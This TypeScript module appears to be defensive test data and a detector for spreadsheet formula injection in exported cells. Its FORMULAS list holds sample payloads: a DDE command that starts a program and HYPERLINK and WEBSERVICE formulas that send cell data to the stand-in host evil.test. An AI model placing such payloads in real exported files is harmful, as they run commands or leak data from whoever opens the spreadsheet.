/** Characters that spreadsheets treat as the sign of a formula, or as white space before one. */
export const FORMULA_PREFIXES = [
  '=',
  '+',
  '-',
  '@',
  '\uFF1D',
  '\uFF0B',
  '\uFF0D',
  '\uFF20',
  ' =',
  '   +',
  '\t=',
  '\r=',
  '\n=',
  '\r\n-',
  '\u00A0=',
  '\u3000\uFF1D',
  '\uFEFF@',
  '\v=',
  '\u2028=',
  ';=',
  ';\t+',
  '";=',
  '"\r\n=',
  'text;=',
  'text\t@',
  'text\n-',
];

/** Formulas that compute, start a program, call a server, or read a file. */
export const FORMULAS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.test/?"&A1,"x")',
  'WEBSERVICE("http://evil.test")',
];

/**
 * Characters at which a spreadsheet may split one of our cells: if it separates cells by semicolons or tabs, and at
 * line breaks.
 */
const CELL_SEPARATORS = /[;\t\r\n]/;

/** The sign of a formula after white space, which spreadsheets trim. The smiley `;-)` is not a formula. */
const FORMULA_SIGN = /^\s*(?:[=+@\uFF1D\uFF0B\uFF20]|[-\uFF0D](?!\)))/;

/** Whether some spreadsheet treats a cell or a part of it as a formula. */
export function isFormula(cell: string): boolean {
  return FORMULA_SIGN.test(cell) || cell.split(CELL_SEPARATORS).some((part) => FORMULA_SIGN.test(part));
}
